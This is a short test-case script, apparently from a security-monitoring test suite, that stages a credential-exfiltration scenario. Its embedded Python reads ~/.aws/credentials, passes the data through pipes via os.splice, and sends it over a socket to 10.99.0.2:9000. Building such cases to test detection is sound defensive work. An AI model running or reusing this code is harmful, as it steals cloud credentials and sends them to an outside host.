# SPDX-License-Identifier: Apache-2.0
TITLE="a forwarder waits in splice between two pipes, a sender waits behind it, before the secret is read"
ROW="I03 I01"
NEEDS=python3
attack() {
	python3 - <<-'END'
	import os, socket, time
	first, second = os.pipe(), os.pipe()
	if os.fork() == 0:
	    os.close(first[1])
	    os.splice(first[0], second[1], 4096)
	    os._exit(0)
	if os.fork() == 0:
	    data = os.read(second[0], 4096)
	    socket.create_connection(('10.99.0.2', 9000), 5).sendall(data)
	    os._exit(0)
	time.sleep(0.3)
	if os.fork() == 0:
	    os.write(first[1], open(os.path.expanduser('~/.aws/credentials'), 'rb').read())
	    os._exit(0)
	for _ in range(3):
	    os.wait()
	END
}
